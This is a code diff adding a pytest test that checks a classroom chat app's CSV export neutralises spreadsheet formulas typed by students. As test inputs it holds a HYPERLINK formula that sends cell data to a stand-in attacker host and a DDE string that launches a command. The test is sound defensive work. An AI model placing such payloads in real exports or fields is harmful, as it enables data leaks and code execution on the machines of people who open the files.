@@ -187,3 +187,21 @@ def test_cli_instructor_add_prints_working_token(
         "instructor classes Lee --class CODE` gives them another class, `backchannel "
         "instructor token Lee` prints a new token.\n"
     )
+
+
+def test_export_csv_neutralises_formulas_typed_by_a_student(client: TestClient) -> None:
+    """The probe's payloads, typed through the WebSocket, arrive in the CSV as text."""
+    name = '=HYPERLINK("http://evil.example/?x="&A2,"y")'
+    line = "\t+cmd|' /C calc'!A0"  # hello and say strip the tab: "+cmd..." is what is stored
+    with client.websocket_connect("/ws") as ws:
+        ws.send_json({"type": "hello", "student": name, "class": "HIST210"})
+        ws.receive_json()
+        ws.send_json({"type": "roleplay.start", "as": "kissinger", "document": None})
+        ws.receive_json()
+        ws.send_json({"type": "say", "text": line})
+        ws.receive_json()
+    response = client.get("/api/classes/HIST210/export.csv", headers=TEACHER)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert [(r["student"], r["line"]) for r in rows] == [("'" + name, "'" + line.strip())]
+    body = client.get("/api/classes/HIST210/export.json", headers=TEACHER).json()
+    assert body["sessions"][0]["student"] == name  # the JSON keeps what was typed
